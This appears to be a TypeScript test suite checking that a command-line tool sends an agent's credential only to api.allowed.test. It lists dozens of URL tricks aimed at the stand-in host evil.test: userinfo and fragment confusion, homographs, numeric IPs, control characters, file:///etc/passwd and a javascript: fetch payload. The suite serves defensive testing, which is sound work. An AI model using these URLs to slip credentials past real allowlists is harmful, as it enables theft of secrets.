/**
 * URL tricks (SPEC §0, §3 matching): whatever the agent writes in the URL, the canary reaches only
 * api.allowed.test. Every host or port a trick could resolve to is routed to an attacker listener,
 * so a leak would be received, not merely fail to connect.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunResult } from '../helpers/cli.ts';
import { bearer, type Canary, requestsWith, setupCanary } from '../helpers/canary.ts';

let f: Canary;
const CONTROL_VALUE = 'control-value-meant-for-evil-test';

beforeAll(async () => {
  f = await setupCanary({
    credentials: [{
      name: 'control',
      value: CONTROL_VALUE,
      flags: ['--allowed-domains', 'evil.test,http://evil.test'],
      canary: false,
    }],
  });
});
afterAll(() => f.close());

function _curl(url: string, marker: string): string[] {
  return [
    '-H',
    'Authorization: Bearer {{CREDENTIAL}}',
    '-H',
    `X-Case: ${marker}`,
    '--credential',
    'k',
    url,
  ];
}

/** Refused before anything is sent: no listener saw this request, no canary anywhere. */
function _expectRefused(r: RunResult, marker: string, codes: readonly number[]): void {
  expect(codes, `exit ${r.code}: ${r.stderr}`).toContain(r.code);
  expect(f.receivedBy(marker)).toEqual([]);
  f.expectClean(r);
}

/** Sent to the allowed listener only, with the canary in Authorization, redacted in the echo. */
function _expectAllowedOnly(r: RunResult, marker: string): void {
  expect(r.code, r.stderr).toBe(0);
  expect(f.receivedBy(marker)).toEqual(['allowed']);
  const [req] = requestsWith(f.allowed, marker);
  expect(req.headers.host).toBe('api.allowed.test');
  expect(req.headers.authorization).toBe(`Bearer ${f.canary}`);
  expect(r.stdout).toContain('[REDACTED:k]');
  f.expectClean(r);
}

// Policy refusals: the URL parses, and names a host, port or scheme the credential does not allow.
const DENIED: Array<[string, string]> = [
  ['userinfo before the attacker host', 'https://api.allowed.test@evil.test/'],
  ['userinfo with port-like password', 'https://api.allowed.test:443@evil.test/'],
  ['userinfo on the allowed host itself', 'https://user:pass@api.allowed.test/'],
  ['fragment hiding the allowed host', 'https://evil.test#@api.allowed.test/'],
  ['query hiding the allowed host', 'https://evil.test?@api.allowed.test/'],
  ['path hiding the allowed host', 'https://evil.test/@api.allowed.test/'],
  ['Cyrillic homograph (U+0430)', 'https://\u0430pi.allowed.test/'],
  ['trailing dot', 'https://api.allowed.test./'],
  ['explicit non-default port', 'https://api.allowed.test:8443/'],
  ['plain http to the allowed host', 'http://api.allowed.test/'],
  ['plain http to the attacker', 'http://evil.test/'],
  ['suffix: allowed host as a subdomain of evil', 'https://api.allowed.test.evil.test/'],
  ['suffix: glued label', 'https://evilallowed.test/'],
  ['parent domain', 'https://allowed.test/'],
  ['sibling subdomain', 'https://www.allowed.test/'],
  ['soft hyphen in the attacker host', 'https://evil\u00AD.test/'],
  ['IPv4 dotted', 'https://127.0.0.1/'],
  ['IPv4 as one number', 'https://2130706433/'],
  ['IPv4 in hex shorthand', 'https://0x7f.1/'],
  ['IPv6 loopback', 'https://[::1]/'],
  ['IPv4-mapped IPv6', 'https://[::ffff:127.0.0.1]/'],
  ['localhost', 'https://localhost/'],
  ['file scheme', 'file:///etc/passwd'],
  ['ftp scheme', 'ftp://api.allowed.test/'],
  ['ws scheme', 'ws://api.allowed.test/'],
  ['wss scheme', 'wss://api.allowed.test/'],
  ['data scheme', 'data:text/plain,api.allowed.test'],
  ['javascript scheme', 'javascript:fetch("https://evil.test/")'],
];

// Raw text a parser rewrites (backslashes, removed tabs and newlines, controls): refused outright.
// SPEC §6 step 3 allows either a usage error (2) or a policy denial (4) for these.
const MALFORMED: Array<[string, string]> = [
  ['backslash before @', 'https://evil.test\\@api.allowed.test/'],
  ['backslashes as slashes', 'https:\\\\evil.test\\'],
  ['mixed slash and backslash', 'https:/\\evil.test/'],
  ['backslash ending the host', 'https://evil.test\\.api.allowed.test/'],
  ['newline joining hosts', 'https://api.allowed.test\n.evil.test/'],
  ['tab joining hosts', 'https://api.allowed.test\t.evil.test/'],
  ['carriage return joining hosts', 'https://api.allowed.test\r.evil.test/'],
  ['tab inside the allowed host', 'https://api.allowed.te\tst/'],
  ['NUL in the host', 'https://api.allowed.test\u0000.evil.test/'],
  ['leading control character', '\u0001https://evil.test/'],
  ['DEL in the host', 'https://api.allowed.test\u007f/'],
  ['C1 control in the host', 'https://api.allowed.test\u0085.evil.test/'],
];

// These all name api.allowed.test once parsed: sending there is correct.
const NORMALISED: Array<[string, string]> = [
  ['percent-encoded dot', 'https://api%2Eallowed.test/'],
  ['percent-encoded lower-case dot', 'https://api.allowed%2etest/'],
  ['percent-encoded letter', 'https://%61pi.allowed.test/'],
  ['ideographic full stop U+3002', 'https://api\u3002allowed.test/'],
  ['fullwidth full stop U+FF0E', 'https://api\uFF0Eallowed.test/'],
  ['halfwidth ideographic full stop U+FF61', 'https://api\uFF61allowed.test/'],
  ['fullwidth letters', 'https://\uFF41\uFF50\uFF49.allowed.test/'],
  [
    'fullwidth capitals',
    'https://\uFF21\uFF30\uFF29.\uFF21\uFF2C\uFF2C\uFF2F\uFF37\uFF25\uFF24.\uFF34\uFF25\uFF33\uFF34/',
  ],
  ['soft hyphen (ignored by IDNA)', 'https://api.al\u00ADlowed.test/'],
  ['upper-case host', 'https://API.Allowed.TEST/'],
  ['upper-case scheme', 'HTTPS://api.allowed.test/'],
  ['explicit default port', 'https://api.allowed.test:443/'],
  ['default port with a leading zero', 'https://api.allowed.test:0443/'],
];

describe.concurrent('URL tricks, template form', () => {
  it('control: a credential allowed on evil.test does reach the attacker listeners', async () => {
    for (const url of ['https://evil.test/', 'http://evil.test/']) {
      const m = f.marker();
      const r = await f.exec({
        credential: 'control',
        url,
        headers: { 'X-Api-Key': '{{CREDENTIAL}}', 'X-Case': m },
      });
      expect(r.code, r.stderr).toBe(0);
      expect(f.receivedBy(m)).toEqual([url.startsWith('https') ? 'attacker' : 'plainAttacker']);
      f.expectClean(r);
    }
  });

  for (const [name, url] of DENIED) {
    it(`refuses (4): ${name}`, async () => {
      const m = f.marker();
      _expectRefused(await f.exec(bearer(url, m)), m, [4]);
    });
  }

  for (const [name, url] of MALFORMED) {
    it(`refuses (2 or 4): ${name}`, async () => {
      const m = f.marker();
      _expectRefused(await f.exec(bearer(url, m)), m, [2, 4]);
    });
  }

  for (const [name, url] of NORMALISED) {
    it(`sends to the allowed host only: ${name}`, async () => {
      const m = f.marker();
      _expectAllowedOnly(await f.exec(bearer(url, m)), m);
    });
  }

  it('a backslash after the allowed host (same host once parsed): refused or sent there only', async () => {
    for (const url of ['https://api.allowed.test\\evil.test/', 'https:api.allowed.test/x']) {
      const m = f.marker();
      const r = await f.exec(bearer(url, m));
      expect([0, 2, 4], r.stderr).toContain(r.code);
      expect(f.receivedBy(m)).toEqual(r.code === 0 ? ['allowed'] : []);
      f.expectClean(r);
    }
  });
});

describe.concurrent('URL tricks, curl form', () => {
  const denied = [
    'https://api.allowed.test@evil.test/',
    'https://evil.test#@api.allowed.test/',
    'https://api.allowed.test.evil.test/',
    'https://\u0430pi.allowed.test/',
    'http://api.allowed.test/',
    'https://api.allowed.test:8443/',
    'https://0x7f.1/',
  ];
  for (const url of denied) {
    it(`refuses (4): ${JSON.stringify(url)}`, async () => {
      const m = f.marker();
      _expectRefused(await f.exec(_curl(url, m)), m, [4]);
    });
  }

  it('refuses (2 or 4) a newline or backslash trick', async () => {
    for (
      const url of [
        'https://api.allowed.test\n.evil.test/',
        'https://evil.test\\@api.allowed.test/',
      ]
    ) {
      const m = f.marker();
      _expectRefused(await f.exec(_curl(url, m)), m, [2, 4]);
    }
  });

  it('sends https://api%2Eallowed.test/ and U+3002 dots to the allowed host only', async () => {
    for (const url of ['https://api%2Eallowed.test/', 'https://api\u3002allowed.test/']) {
      const m = f.marker();
      _expectAllowedOnly(await f.exec(_curl(url, m)), m);
    }
  });
});
